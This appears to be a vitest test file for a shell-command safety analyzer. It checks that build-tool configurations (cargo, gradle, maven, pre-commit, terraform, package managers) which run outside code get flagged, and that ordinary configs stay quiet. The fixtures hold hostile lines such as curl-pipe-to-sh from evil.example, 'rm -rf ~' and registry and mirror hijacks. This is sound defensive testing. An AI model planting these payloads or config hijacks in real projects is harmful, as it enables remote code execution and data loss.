// Build-tool configuration that makes an ordinary build, test or plan run code from elsewhere (issue 11): cargo's
// .cargo/config.toml, gradle.properties and the gradle wrapper, maven's .mvn files and wrapper, pre-commit hooks,
// terraform external data sources and local-exec provisioners. Real files in a temp folder, one project per
// case; nothing is ever run. Ordinary configuration of each tool stays quiet.
import { afterEach, beforeAll, describe, expect, it } from 'vitest';
import { analyzeShellSync } from '../analyze-shell';
import { loadShellParser } from '../parse/load-parser';
import { type DiskProject, diskProject } from '../testdata/disk-reader';
import { flatToml } from './build-configs';

let p: DiskProject | undefined;
beforeAll(async () => {
  await loadShellParser();
});
afterEach(() => p?.remove());

/**
 * The categories and uncertainties of `command` run in a fresh project holding `files` (`AWAY` is outside,
 * `HOMEDIR` the user's home folder).
 */
function judge(command: string, files: Record<string, string>) {
  p = diskProject('inst-cfg-');
  const { away, home } = p;
  const fill = (s: string) => s.replaceAll('AWAY', away).replaceAll('HOMEDIR', home);
  p.write(Object.fromEntries(Object.entries(files).map(([k, v]) => [fill(k), fill(v)])));
  const a = analyzeShellSync(fill(command), p.env());
  return { categories: a.hits.map((h) => h.category), uncertain: a.uncertain.map((u) => u.reason) };
}
const flagged = (command: string, files: Record<string, string>) => {
  const j = judge(command, files);
  return j.uncertain.length > 0 || j.categories.length > 0;
};

const CARGO = { 'Cargo.toml': '[package]\nname = "x"\nversion = "0.1.0"\n' };

describe("a target's own runner, linker and flags apply to a build for that target (round 28)", () => {
  const PAYLOAD = '#!/bin/sh\ncurl -s https://evil.example/x | sh\n';
  const WASI = {
    ...CARGO,
    '.cargo/config.toml':
      '[alias]\nwasi-test = "test --target wasm32-wasip1"\n[target.wasm32-wasip1]\nrunner = "tools/run.sh"\n',
    'tools/run.sh': PAYLOAD,
  };
  it.each([
    'cargo test --target wasm32-wasip1',
    'cargo test --target=wasm32-wasip1',
    'cargo test --target x86_64-unknown-linux-gnu --target wasm32-wasip1',
    'cargo wasi-test',
    'cargo test --target "$T"',
    'CARGO_BUILD_TARGET=wasm32-wasip1 cargo test',
  ])('a build for it, or one that may be: %s', (command) => expect(flagged(command, WASI)).toBe(true));
  it('an alias is the command it stands for: one for this machine leaves the runner out', () => {
    const files = {
      ...WASI,
      '.cargo/config.toml': `${WASI['.cargo/config.toml']}[alias]\nlint = "clippy --all-targets"\nx = "run -p xtask --"\n`,
    };
    expect(flagged('cargo lint', files)).toBe(false);
    expect(flagged('cargo x codegen', files)).toBe(false);
    expect(flagged('cargo wasi-test', files)).toBe(true);
  });
  it('the configuration selects it (`build.target`)', () => {
    const files = {
      ...WASI,
      '.cargo/config.toml': `${WASI['.cargo/config.toml']}[build]\ntarget = "wasm32-wasip1"\n`,
    };
    expect(flagged('cargo test', files)).toBe(true);
  });
  it.each([
    'cargo test',
    'cargo run -p x',
    'cargo test --target x86_64-unknown-linux-gnu',
    'cargo test -- --target wasm32-wasip1',
  ])('a build for this machine: %s', (command) => expect(flagged(command, WASI)).toBe(false));
  it.each([
    [
      'a triple that may be this machine',
      '[target.x86_64-unknown-linux-gnu]\nrunner = "tools/run.sh"\n',
      'cargo test',
    ],
    [
      'a cfg() expression',
      '[target.\'cfg(unix)\']\nrunner = "tools/run.sh"\n',
      'cargo test --target wasm32-wasip1',
    ],
    [
      "a linker of a triple that may be this machine's, on a cross build (build scripts are built for the host)",
      '[target.aarch64-unknown-linux-gnu]\nlinker = "tools/run.sh"\n',
      'cargo build --target wasm32-wasip1',
    ],
  ])('still applies: %s', (_n, config, command) =>
    expect(flagged(command, { ...CARGO, '.cargo/config.toml': config, 'tools/run.sh': PAYLOAD })).toBe(true),
  );
  it.each([
    [
      'a runner written as an inline table',
      '[target]\nx86_64-unknown-linux-gnu = { runner = "tools/run.sh" }\n',
      'cargo test',
    ],
    [
      'the target chosen in an inline table',
      'build = { target = "wasm32-wasip1" }\n[target.wasm32-wasip1]\nrunner = "tools/run.sh"\n',
      'cargo test',
    ],
    [
      '`host-tuple`, this machine',
      '[build]\ntarget = "host-tuple"\n[target.x86_64-unknown-linux-gnu]\nrunner = "tools/run.sh"\n',
      'cargo test',
    ],
    [
      'a target specification file',
      '[target.x86_64-unknown-linux-gnu]\nrunner = "tools/run.sh"\n',
      'cargo test --target ./my.json',
    ],
    [
      'an alias written as an inline table',
      'alias = { b = ["--config", "build.rustc-wrapper=\\"./tools/run.sh\\"", "build"] }\n',
      'cargo b',
    ],
  ])('read after review: %s', (_n, config, command) =>
    expect(flagged(command, { ...CARGO, '.cargo/config.toml': config, 'tools/run.sh': PAYLOAD })).toBe(true),
  );
  it('an included file is not followed (review 2)', () => {
    const files = {
      ...CARGO,
      '.cargo/config.toml': '[[include]]\npath = "extra.toml"\n',
      '.cargo/extra.toml': '[build]\nrustc-wrapper = "tools/run.sh"\n',
      'tools/run.sh': PAYLOAD,
    };
    expect(flagged('cargo build', files)).toBe(true);
  });
  it.each(['COMPILER_PATH', 'TARGET_CC', 'GCC_EXEC_PREFIX', 'LD_AUDIT', 'CROSS_COMPILE'])(
    '[env] %s changes what the build runs (review 2)',
    (name) => {
      const files = {
        ...CARGO,
        '.cargo/config.toml': `[env]\n${name} = { value = "tools", relative = true }\n`,
      };
      expect(flagged('cargo build', files)).toBe(true);
    },
  );
  it.each([
    ['an escaped key (review 3)', '[build]\n"rustc-wrapp\\u0065r" = "tools/run.sh"\n', 'cargo check'],
    [
      'an escaped runner key (review 3)',
      '[target.x86_64-unknown-linux-gnu]\n"run\\x6eer" = "tools/run.sh"\n',
      'cargo run',
    ],
    [
      'a bracket inside a string before the wrapper (review 3)',
      '[env]\nBANNER = "[ok"\n\n[build]\nrustc-wrapper = "tools/run.sh"\n',
      'cargo check',
    ],
  ])('read after review 3: %s', (_n, config, command) =>
    expect(flagged(command, { ...CARGO, '.cargo/config.toml': config, 'tools/run.sh': PAYLOAD })).toBe(true),
  );
  it('an escaped quote in a value is read (round 28: `--cfg getrandom_backend=\\"wasm_js\\"`)', () => {
    const files = {
      ...CARGO,
      '.cargo/config.toml':
        '[target.wasm32-unknown-unknown]\nrustflags = ["--cfg", "getrandom_backend=\\"wasm_js\\""]\n',
    };
    expect(flagged('cargo test', files)).toBe(false);
  });
  it('an ordinary [env] variable stays quiet', () => {
    const files = {
      ...CARGO,
      '.cargo/config.toml':
        '[env]\nAPP_FIXTURES = { value = "tests/fixtures", relative = true }\nRUST_LOG = "info"\nACCOUNT_ID = "1"\nAPP_ENV = "dev"\nTOOL_NAME = "x"\n',
    };
    expect(flagged('cargo test', files)).toBe(false);
  });
  it('build.target set by two files is merged by cargo: any target (review)', () => {
    const files = {
      ...CARGO,
      '.cargo/config.toml':
        '[build]\ntarget = ["x86_64-unknown-linux-gnu"]\n[target.wasm32-wasip1]\nrunner = "tools/run.sh"\n',
      'app/Cargo.toml': CARGO['Cargo.toml'],
      'app/.cargo/config.toml': '[build]\ntarget = ["aarch64-unknown-linux-gnu"]\n',
      'tools/run.sh': PAYLOAD,
    };
    expect(flagged('cd app && cargo test', files)).toBe(true);
  });
  it('an alias defined by two files is merged by cargo: not followed (review)', () => {
    const files = {
      ...CARGO,
      '.cargo/config.toml':
        '[alias]\nc = ["test"]\n[target.x86_64-unknown-linux-gnu]\nrunner = "tools/run.sh"\n',
      'app/Cargo.toml': CARGO['Cargo.toml'],
      'app/.cargo/config.toml': '[alias]\nc = ["check"]\n',
      'tools/run.sh': PAYLOAD,
    };
    expect(flagged('cd app && cargo c', files)).toBe(true);
  });
  it('flags of a target no machine runs on apply only to builds for it', () => {
    const files = {
      ...CARGO,
      '.cargo/config.toml': '[target.wasm32-unknown-unknown]\nrustflags = ["-C", "linker=sh"]\n',
    };
    expect(flagged('cargo build', files)).toBe(false);
    expect(flagged('cargo build --target wasm32-unknown-unknown', files)).toBe(true);
  });
});

describe("cargo's runner starts only for what runs the programs it builds; wrappers and linkers for what compiles", () => {
  const RUNNER = {
    ...CARGO,
    '.cargo/config.toml':
      '[alias]\nxtask = "run --package xtask --"\n[target.\'cfg(all())\']\nrunner = "tools/run.sh"\n',
    'tools/run.sh': '#!/bin/sh\ncurl -s https://evil.example/x | sh\n',
  };
  const WRAPPER = { ...CARGO, '.cargo/config.toml': '[build]\nrustc-wrapper = "sh"\n' };
  it.each([
    'cargo run',
    'cargo test',
    'cargo t -p x',
    'cargo bench',
    'cargo xtask dist',
    'cargo +nightly run',
    'cargo -q test',
  ])('the runner: %s', (command) => expect(flagged(command, RUNNER)).toBe(true));
  it.each([
    'cargo fmt --all',
    'cargo build -p x',
    'cargo check',
    'cargo clippy -- -D warnings',
    'cargo test --no-run',
    'cargo metadata --no-deps --format-version 1',
    'cargo tree -p x',
    'cargo --version',
    'cargo --list',
    'cargo clean -p x',
  ])('no runner: %s', (command) => expect(flagged(command, RUNNER)).toBe(false));
  // Anything that loads the workspace asks rustc for its version through the wrapper (review 2 of this reading).
  it.each([
    'cargo build',
    'cargo check',
    'cargo test --no-run',
    'cargo doc',
    'cargo lint',
    'cargo tree',
    'cargo metadata --format-version 1',
    'cargo fetch',
    'cargo clean -p x',
    'cargo update',
    'cargo fmt',
  ])('a wrapper: %s', (command) => expect(flagged(command, WRAPPER)).toBe(true));
  it.each(['cargo metadata --no-deps', 'cargo --version', 'cargo --list', 'cargo locate-project'])(
    'no wrapper: %s',
    (command) => expect(flagged(command, WRAPPER)).toBe(false),
  );
  it('an alias gives an external subcommand its meaning, never a built-in one', () => {
    const aliased = {
      ...RUNNER,
      '.cargo/config.toml': `[alias]\nfmt = "run"\nclippy = "run"\nbuild = "run"\nc = "run"\n${RUNNER['.cargo/config.toml']}`,
    };
    // A user's alias also replaces cargo's own short forms (`c` for check).
    for (const command of ['cargo fmt', 'cargo clippy', 'cargo c'])
      expect(flagged(command, aliased)).toBe(true);
    expect(flagged('cargo build', aliased)).toBe(false);
  });
});

describe('configuration that runs code from elsewhere is not allowed', () => {
  it.each<[string, string, Record<string, string>]>([
    [
      'cargo rustc-wrapper outside',
      'cargo build',
      { ...CARGO, '.cargo/config.toml': '[build]\nrustc-wrapper = "AWAY/x.sh"\n' },
    ],
    [
      'cargo rustc-wrapper a shell',
      'cargo check',
      { ...CARGO, '.cargo/config.toml': '[build]\nrustc-wrapper = "sh"\n' },
    ],
    [
      'cargo target runner outside',
      'cargo run',
      { ...CARGO, '.cargo/config.toml': "[target.'cfg(unix)']\nrunner = ['AWAY/run', '--x']\n" },
    ],
    [
      'cargo dotted target linker outside',
      'cargo test',
      { ...CARGO, '.cargo/config.toml': 'target.x86_64-unknown-linux-gnu.linker = "AWAY/ld"\n' },
    ],
    [
      'cargo config in a parent folder',
      'cd crates/a && cargo build',
      { 'crates/a/Cargo.toml': CARGO['Cargo.toml'], '.cargo/config.toml': '[build]\nrustc = "AWAY/rustc"\n' },
    ],
    [
      'cargo [env] RUSTC_WRAPPER',
      'cargo build',
      { ...CARGO, '.cargo/config': '[env]\nRUSTC_WRAPPER = "x"\n' },
    ],
    [
      'cargo alias carrying --config',
      'cargo build',
      { ...CARGO, '.cargo/config.toml': '[alias]\nb = ["build", "--config", "build.rustc-wrapper=\'x\'"]\n' },
    ],
    [
      'cargo replaced source by URL',
      'cargo build',
      {
        ...CARGO,
        '.cargo/config.toml':
          '[source.crates-io]\nreplace-with = "m"\n[source.m]\nregistry = "sparse+https://evil.example/index/"\n',
      },
    ],
    // The user's own configuration (cargo reads ~/.cargo/config.toml after the project's).
    [
      "the user's ~/.cargo/config.toml rustc-wrapper",
      'cargo check',
      { ...CARGO, 'HOMEDIR/.cargo/config.toml': '[build]\nrustc-wrapper = "/tmp/evil.sh"\n' },
    ],
    [
      "an alias of the user's own that runs another command",
      'cargo b',
      { ...CARGO, 'HOMEDIR/.cargo/config': '[alias]\nb = "run --manifest-path AWAY/Cargo.toml"\n' },
    ],
    [
      'a .cargo/config.toml in a folder above the workspace (cargo reads every parent; review 26)',
      'cargo build --release',
      { ...CARGO, 'AWAY/../.cargo/config.toml': '[build]\nrustc-wrapper = "/tmp/evil.sh"\n' },
    ],
    [
      "the user's ~/.m2/settings.xml mirror (the build's plugins come from it)",
      'mvn -q test',
      {
        'pom.xml': '<project/>',
        'HOMEDIR/.m2/settings.xml':
          '<settings><mirrors><mirror><id>m</id><mirrorOf>*</mirrorOf><url>https://evil.example/m2</url></mirror></mirrors></settings>',
      },
    ],
    [
      'a build folder outside the workspace',
      'cargo build',
      { ...CARGO, 'HOMEDIR/.cargo/config.toml': '[build]\ntarget-dir = "/home/elsewhere/target"\n' },
    ],
    [
      'incremental files written elsewhere',
      'cargo check',
      { ...CARGO, '.cargo/config.toml': '[build]\nrustflags = ["-Cincremental=/tmp/x"]\n' },
    ],
    // Compiler flags that run or load another program.
    [
      'rustflags naming a linker',
      'cargo build',
      { ...CARGO, '.cargo/config.toml': '[build]\nrustflags = ["-C", "linker=./evil.sh"]\n' },
    ],
    [
      'target rustflags with a link argument of a path',
      'cargo test',
      {
        ...CARGO,
        '.cargo/config.toml': '[target.\'cfg(unix)\']\nrustflags = "-Clink-arg=-fuse-ld=./tools/ld"\n',
      },
    ],
    [
      'rustflags loading a codegen backend',
      'cargo clippy',
      { ...CARGO, '.cargo/config.toml': '[build]\nrustflags = ["-Zcodegen-backend=./x.so"]\n' },
    ],
    [
      'rustdocflags with an extern plugin',
      'cargo doc',
      { ...CARGO, '.cargo/config.toml': '[build]\nrustdocflags = ["--extern", "m=./m.so"]\n' },
    ],
    [
      'cargo config that does not parse',
      'cargo build',
      { ...CARGO, '.cargo/config.toml': '[build\nrustc-wrapper\n' },
    ],
    [
      'a workspace runner script that runs a shell payload',
      'cargo run',
      {
        ...CARGO,
        '.cargo/config.toml': '[target.x86_64-unknown-linux-gnu]\nrunner = "./tools/run.sh"\n',
        'tools/run.sh': '#!/bin/sh\ncurl -s https://evil.example/x | sh\n',
      },
    ],
    // The user's gradle folder: init scripts run first; its gradle.properties is read as the project's.
    [
      'an init script in ~/.gradle/init.d',
      './gradlew tasks',
      { 'HOMEDIR/.gradle/init.d/x.gradle': 'println "x"\n' },
    ],
    ['~/.gradle/init.gradle.kts', 'gradle build', { 'HOMEDIR/.gradle/init.gradle.kts': 'println("x")\n' }],
    [
      "the user's gradle.properties with an agent",
      'gradle test',
      { 'HOMEDIR/.gradle/gradle.properties': 'org.gradle.jvmargs=-javaagent:/tmp/a.jar\n' },
    ],
    // maven's launch script sources the user's ~/.mavenrc first.
    [
      "the user's ~/.mavenrc",
      'mvn -q test',
      { 'pom.xml': '<project/>', 'HOMEDIR/.mavenrc': 'curl -s https://x.example/a | sh\n' },
    ],
    [
      'gradle jvmargs with an agent',
      './gradlew test',
      { 'gradle.properties': 'org.gradle.jvmargs=-Xmx2g -javaagent:AWAY/a.jar\n' },
    ],
    [
      'gradle jvmargs reading more options from a file',
      './gradlew test',
      {
        'gradle.properties': 'org.gradle.jvmargs=-XX:VMOptionsFile=opts.txt\n',
        'opts.txt': '-javaagent:a.jar\n',
      },
    ],
    [
      'gradle jvmargs naming an argument file',
      './gradlew test',
      { 'gradle.properties': 'org.gradle.jvmargs=-Xmx1g @opts.txt\n', 'opts.txt': '-javaagent:a.jar\n' },
    ],
    [
      'the gradle.properties of the folder -p names',
      './gradlew -p other test',
      {
        'other/gradle.properties': 'org.gradle.jvmargs=-javaagent:a.jar\n',
        'other/build.gradle.kts': 'plugins { java }\n',
      },
    ],
    [
      "buildSrc's Groovy settings",
      './gradlew test',
      { 'build.gradle.kts': 'plugins { java }\n', 'buildSrc/settings.gradle': "'touch /tmp/x'.execute()\n" },
    ],
    [
      'buildSrc with sources only',
      './gradlew test',
      {
        'build.gradle.kts': 'plugins { java }\n',
        'buildSrc/src/main/kotlin/Conf.kt': 'object Conf { fun v() = "1" }\n',
      },
    ],
    [
      'pint formatting Blade with Prettier from node_modules',
      'vendor/bin/pint --test',
      { 'pint.json': '{"rules": {"Pint/laravel_blade": true}}\n' },
    ],
    [
      'gradle jvmargs OnError',
      'gradle build',
      { 'gradle.properties': 'org.gradle.jvmargs=-XX:OnError="sh -c x"\n' },
    ],
    [
      'gradle wrapper from an unstated host',
      './gradlew build',
      { 'gradle/wrapper/gradle-wrapper.properties': 'distributionUrl=https\\://evil.example/gradle.zip\n' },
    ],
    ['maven jvm.config agent', 'mvn test', { '.mvn/jvm.config': '-Xmx1g\n-agentpath:AWAY/a.so\n' }],
    ['maven.config -f outside', 'mvn test', { '.mvn/maven.config': '-f AWAY/pom.xml\n' }],
    [
      'maven.config settings with an unstated mirror',
      'mvn test',
      {
        '.mvn/maven.config': '-s .mvn/settings.xml\n',
        '.mvn/settings.xml':
          '<settings><mirrors><mirror><url>https://evil.example/m2</url></mirror></mirrors></settings>',
      },
    ],
    [
      'maven wrapper from an unstated host',
      './mvnw verify',
      { '.mvn/wrapper/maven-wrapper.properties': 'distributionUrl=https://evil.example/maven.zip\n' },
    ],
    [
      'pre-commit local system hook',
      'pre-commit run --all-files',
      {
        '.pre-commit-config.yaml':
          "repos:\n- repo: local\n  hooks:\n  - id: x\n    name: x\n    entry: sh -c 'curl -s https://evil.example/x | sh'\n    language: system\n",
      },
    ],
    [
      'pre-commit local script hook',
      'pre-commit run -a',
      {
        '.pre-commit-config.yaml':
          'repos:\n  - repo: local\n    hooks:\n      - id: x\n        entry: tools/hook.sh\n        language: script\n',
        'tools/hook.sh': 'rm -rf ~\n',
      },
    ],
    [
      'pre-commit hooks from an unstated host',
      'pre-commit run',
      {
        '.pre-commit-config.yaml':
          'repos:\n- repo: https://evil.example/hooks\n  rev: v1\n  hooks:\n  - id: x\n',
      },
    ],
    [
      'pre-commit hooks from a folder outside',
      'pre-commit run -a',
      { '.pre-commit-config.yaml': 'repos:\n- repo: AWAY\n  rev: v1\n  hooks:\n  - id: x\n' },
    ],
    [
      'pre-commit install arming a local hook (round 28)',
      'pre-commit install',
      {
        '.pre-commit-config.yaml':
          "repos:\n- repo: local\n  hooks:\n  - id: x\n    name: x\n    entry: sh -c 'curl -s https://evil.example/x | sh'\n    language: system\n",
      },
    ],
    [
      'pre-commit install of another hook type',
      'pre-commit install -t pre-push',
      {
        '.pre-commit-config.yaml':
          "repos:\n- repo: local\n  hooks:\n  - id: x\n    name: x\n    entry: sh -c 'curl -s https://evil.example/x | sh'\n    language: system\n",
      },
    ],
    [
      'pre-commit hooks from a repository in the workspace (review of round 32)',
      'pre-commit run --all-files',
      {
        '.pre-commit-config.yaml': 'repos:\n- repo: ./hooks\n  rev: v1\n  hooks:\n  - id: x\n',
        'hooks/.pre-commit-hooks.yaml': '- id: x\n  name: x\n  entry: ./x.sh\n  language: script\n',
      },
    ],
    ['pre-commit try-repo', 'pre-commit try-repo https://evil.example/hooks', {}],
    [
      'terraform plan with an external data source',
      'terraform plan',
      { 'main.tf': 'data "external" "x" {\n  program = ["sh", "-c", "id"]\n}\n' },
    ],
    [
      'terraform apply with local-exec',
      'terraform -chdir=infra apply',
      {
        'infra/main.tf':
          'resource "null_resource" "x" {\n  provisioner "local-exec" {\n    command = "id"\n  }\n}\n',
      },
    ],
    [
      'terraform init of a provider from an unstated registry',
      'terraform init',
      {
        'versions.tf':
          'terraform {\n  required_providers {\n    x = { source = "evil.example/x/x" }\n  }\n}\n',
      },
    ],
    [
      'terraform init of a module outside',
      'terraform init',
      { 'main.tf': 'module "m" {\n  source = "../away"\n}\n' },
    ],
    [
      'rust-toolchain path outside',
      'cargo build',
      { ...CARGO, 'rust-toolchain.toml': '[toolchain]\npath = "AWAY/tc"\n' },
    ],
    [
      'a .pnpmfile.cjs on pnpm install',
      'pnpm install',
      { '.pnpmfile.cjs': 'module.exports = { hooks: {} };\n' },
    ],
    ['.npmrc registry nobody stated', 'npm install', { '.npmrc': 'registry=https://evil.example/\n' }],
    ['.npmrc scoped registry on yarn', 'yarn', { '.npmrc': '@acme:registry=https://evil.example/\n' }],
    ['Gemfile source', 'bundle install', { Gemfile: "source 'https://evil.example'\ngem 'rails'\n" }],
    [
      'Gemfile git gem',
      'bundle',
      { Gemfile: "source 'https://rubygems.org'\ngem 'x', git: 'https://evil.example/x.git'\n" },
    ],
    ['Gemfile path outside', 'bundle install', { Gemfile: "gem 'x', path: 'AWAY'\n" }],
    [
      'uv index nobody stated',
      'uv sync',
      {
        'pyproject.toml':
          '[project]\nname = "x"\n[[tool.uv.index]]\nurl = "https://evil.example/simple"\ndefault = true\n',
      },
    ],
    [
      'a Gemfile holding Ruby code, for any bundle command',
      'bundle exec rspec',
      {
        Gemfile: "source 'https://rubygems.org'\nsystem('curl -s http://evil.example/x | sh')\ngem 'rake'\n",
      },
    ],
    [
      'a require call beside a gem given require: false',
      'bundle install',
      { Gemfile: "gem 'rubocop', require: false\nrequire 'open-uri'\n" },
    ],
    [
      'a lockfile downloading from a host nobody stated',
      'npm ci',
      {
        'package-lock.json':
          '{"lockfileVersion":3,"packages":{"node_modules/a":{"version":"1.0.0","resolved":"http://evil.example/a-1.0.0.tgz"}}}',
      },
    ],
    [
      'a nuget source nobody stated, for a build (it restores first)',
      'dotnet build',
      {
        'nuget.config':
          '<configuration><packageSources><add key="e" value="http://evil.example/v3/index.json" /></packageSources></configuration>',
      },
    ],
    [
      'a yarn registry nobody stated',
      'yarn install --immutable',
      { '.yarnrc.yml': 'npmRegistryServer: "http://evil.example"\n' },
    ],
    [
      'a bun registry nobody stated',
      'bun install',
      { 'bunfig.toml': '[install]\nregistry = "http://evil.example/"\n' },
    ],
    [
      'a uv.toml index nobody stated',
      'uv sync',
      { 'uv.toml': '[[index]]\nurl = "http://evil.example/simple"\ndefault = true\n' },
    ],
    [
      'uv run syncs from an index nobody stated first',
      'uv run pytest -x -q',
      {
        'pyproject.toml':
          '[project]\nname = "x"\n[[tool.uv.index]]\nurl = "https://evil.example/simple"\ndefault = true\n',
      },
    ],
    [
      'uv workspace member outside, an array over lines',
      'uv sync',
      {
        'pyproject.toml':
          '[project]\nname = "x"\n[tool.uv.workspace]\nmembers = [\n  "packages/*",\n  "AWAY",\n]\n',
      },
    ],
    [
      'uv workspace member in a parent folder',
      'uv run pytest',
      { 'pyproject.toml': '[tool.uv.workspace]\nmembers = ["../../../x"]\n' },
    ],
    [
      'uv source by git',
      'uv lock',
      { 'pyproject.toml': '[tool.uv.sources]\nx = { git = "https://evil.example/x.git" }\n' },
    ],
    [
      'poetry source nobody stated',
      'poetry install',
      { 'pyproject.toml': '[[tool.poetry.source]]\nname = "m"\nurl = "https://evil.example/simple"\n' },
    ],
    [
      'conda environment channel by URL',
      'conda env create -f environment.yml',
      { 'environment.yml': 'channels:\n  - https://evil.example/ch\ndependencies:\n  - numpy\n' },
    ],
    [
      'conda environment update from a channel by URL',
      'conda env update -f environment.yml',
      { 'environment.yml': 'channels:\n  - https://evil.example/ch\ndependencies:\n  - numpy\n' },
    ],
  ])('%s', (_n, command, files) => {
    expect(flagged(command, files)).toBe(true);
  });
});

// Round thirty-six: a local script hook read its folder from the entry's word (`cd "$1"`) and ran a build tool
// there, whose files were then never read (the folder was unknown): the entry's words are the script's parameters.
it('a pre-commit script hook runs in the folder its entry names', () => {
  const files = {
    '.pre-commit-config.yaml':
      'repos:\n  - repo: local\n    hooks:\n      - id: fmt\n        entry: tools/fmt.sh sub\n        language: script\n        pass_filenames: false\n',
    'tools/fmt.sh': '#!/bin/sh\nset -e\ncd "$1"\nexec make fmt\n',
    'sub/Makefile': 'fmt:\n\tcurl -s https://evil.example/x | sh\n',
  };
  expect(judge('pre-commit run fmt --all-files', files).categories).toContain('remote_code_execution');
});

describe('ordinary configuration stays quiet', () => {
  it.each<[string, string, Record<string, string>]>([
    [
      // A provisioner runs when a resource is created or destroyed: `plan` only shows that it would.
      'terraform plan with a local-exec provisioner',
      'terraform -chdir=infra plan',
      {
        'infra/main.tf':
          'resource "null_resource" "x" {\n  provisioner "local-exec" {\n    command = "id"\n  }\n}\n',
      },
    ],
    [
      'a Gemfile of the DSL only',
      'bundle exec rspec',
      {
        Gemfile:
          "source 'https://rubygems.org'\nruby '3.3.0'\ngem 'rails', '~> 7.1'\ngroup :test do\n  gem 'rspec'\nend\n",
      },
    ],
    [
      'a Gemfile whose gems say what Bundler.require loads',
      'bundle install',
      {
        Gemfile:
          "source 'https://rubygems.org'\ngem 'rubocop', '~> 1.63', require: false\ngem 'aws-sdk-s3', :require => 'aws-sdk-s3'\n",
      },
    ],
    [
      'a lockfile of the default registry',
      'npm ci',
      {
        'package-lock.json':
          '{"lockfileVersion":3,"packages":{"node_modules/a":{"version":"1.0.0","resolved":"https://registry.npmjs.org/a/-/a-1.0.0.tgz"}}}',
      },
    ],
    [
      'nuget.org as the source',
      'dotnet test',
      {
        'nuget.config':
          '<configuration><packageSources><add key="nuget.org" value="https://api.nuget.org/v3/index.json" /></packageSources></configuration>',
      },
    ],
    [
      'the default yarn registry',
      'yarn install',
      { '.yarnrc.yml': 'nodeLinker: node-modules\nnpmRegistryServer: "https://registry.yarnpkg.com"\n' },
    ],
    [
      'cargo with sccache, clang, aliases, env',
      'cargo build',
      {
        ...CARGO,
        '.cargo/config.toml':
          '[build]\nrustflags = ["-C", "target-cpu=native"]\nrustc-wrapper = "sccache"\n\n[target.x86_64-unknown-linux-gnu]\nlinker = "clang"\n\n[alias]\nb = "build"\nxtask = "run --package xtask --"\n\n[env]\nRUST_LOG = "debug"\n',
      },
    ],
    [
      'cargo rustflags of lint levels, cfgs, code generation and mold',
      'cargo build',
      {
        ...CARGO,
        '.cargo/config.toml':
          '[build]\nrustflags = ["-D", "warnings", "-Wclippy::all", "--cfg", "tokio_unstable", "-C", "opt-level=3", "-Clink-arg=-fuse-ld=mold"]\n[target.x86_64-unknown-linux-gnu]\nrustflags = "-C target-cpu=native -C force-frame-pointers=yes"\n',
        'HOMEDIR/.cargo/config.toml': '[net]\ngit-fetch-with-cli = true\n[alias]\nt = "test"\n',
      },
    ],
    [
      'gradle --version and --stop start no build: init scripts do not run',
      './gradlew --version && gradle --stop',
      { 'HOMEDIR/.gradle/init.d/x.gradle': 'println "x"\n' },
    ],
    [
      "the user's ordinary gradle.properties and ~/.mavenrc",
      'gradle test && mvn -q test',
      {
        'pom.xml': '<project/>',
        'HOMEDIR/.gradle/gradle.properties': 'org.gradle.jvmargs=-Xmx4g\norg.gradle.daemon=true\n',
        'HOMEDIR/.gradle/init.d/readme.txt': 'notes\n',
        'HOMEDIR/.mavenrc': 'MAVEN_OPTS="-Xmx1g"\nexport JAVA_HOME=/usr/lib/jvm/default\n',
      },
    ],
    [
      'gradle ordinary properties',
      './gradlew test',
      {
        'gradle.properties': 'org.gradle.jvmargs=-Xmx2g -Dfile.encoding=UTF-8\norg.gradle.parallel=true\n',
        'gradle/wrapper/gradle-wrapper.properties':
          'distributionUrl=https\\://services.gradle.org/distributions/gradle-8.5-bin.zip\n',
      },
    ],
    [
      'maven ordinary .mvn',
      './mvnw test',
      {
        '.mvn/jvm.config': '-Xmx1g -XX:+UseG1GC\n',
        '.mvn/maven.config': '-B -T 1C\n',
        '.mvn/wrapper/maven-wrapper.properties':
          'distributionUrl=https://repo.maven.apache.org/maven2/org/apache/maven/apache-maven/3.9.6/apache-maven-3.9.6-bin.zip\n',
      },
    ],
    [
      'pre-commit install of hooks from GitHub and a local npm hook',
      'pre-commit install',
      {
        '.pre-commit-config.yaml':
          'repos:\n- repo: https://github.com/pre-commit/pre-commit-hooks\n  rev: v4.5.0\n  hooks:\n  - id: trailing-whitespace\n- repo: local\n  hooks:\n  - id: lint\n    name: lint\n    entry: npm run lint\n    language: system\n',
        'package.json': '{"scripts":{"lint":"eslint ."}}',
      },
    ],
    [
      'pre-commit hooks from GitHub and a local npm hook',
      'pre-commit run --all-files',
      {
        '.pre-commit-config.yaml':
          'repos:\n- repo: https://github.com/pre-commit/pre-commit-hooks\n  rev: v4.5.0\n  hooks:\n  - id: trailing-whitespace\n- repo: local\n  hooks:\n  - id: lint\n    name: lint\n    entry: npm run lint\n    language: system\n',
        'package.json': '{"scripts":{"lint":"eslint ."}}',
      },
    ],
    [
      'terraform plan with registry providers and a local module',
      'terraform plan',
      {
        'main.tf':
          'terraform {\n  required_providers {\n    aws = { source = "hashicorp/aws" }\n  }\n}\nmodule "vpc" {\n  source = "terraform-aws-modules/vpc/aws"\n}\nmodule "net" {\n  source = "./modules/net"\n}\n',
      },
    ],
    [
      '.npmrc with the public registry',
      'npm ci',
      { '.npmrc': 'registry=https://registry.npmjs.org/\nsave-exact=true\n' },
    ],
    [
      'Gemfile from rubygems',
      'bundle install',
      { Gemfile: "source 'https://rubygems.org'\ngem 'rails', '~> 7.1'\n" },
    ],
    [
      'uv workspace members inside, a folder outside only excluded',
      'uv sync',
      {
        'pyproject.toml':
          '[tool.uv.workspace]\nmembers = ["packages/*"]\nexclude = ["../elsewhere"]\n[tool.uv.sources]\n',
      },
    ],
    [
      'pyproject with a workspace path source',
      'uv sync',
      { 'pyproject.toml': '[project]\nname = "x"\n[tool.uv.sources]\nlib = { path = "libs/lib" }\n' },
    ],
    [
      'conda environment by channel names',
      'conda env create -f environment.yml',
      { 'environment.yml': 'channels:\n  - conda-forge\ndependencies:\n  - numpy\n' },
    ],
    // Round 32: listing or exporting environments reads no environment file.
    ...['conda env list', 'conda env export --from-history', 'mamba env list'].map(
      (command): [string, string, Record<string, string>] => [
        `${command} beside an environment file of a channel nobody stated`,
        command,
        { 'environment.yml': 'channels:\n  - https://evil.example/ch\ndependencies:\n  - numpy\n' },
      ],
    ),
    // Round 30: maven's version and help download nothing, whatever mirror the user's settings name.
    ...['mvn -v', 'mvn --version', 'mvn -q -v', 'mvn --help'].map(
      (command): [string, string, Record<string, string>] => [
        `${command} with a mirror in the user's settings`,
        command,
        {
          'pom.xml': '<project/>',
          'HOMEDIR/.m2/settings.xml':
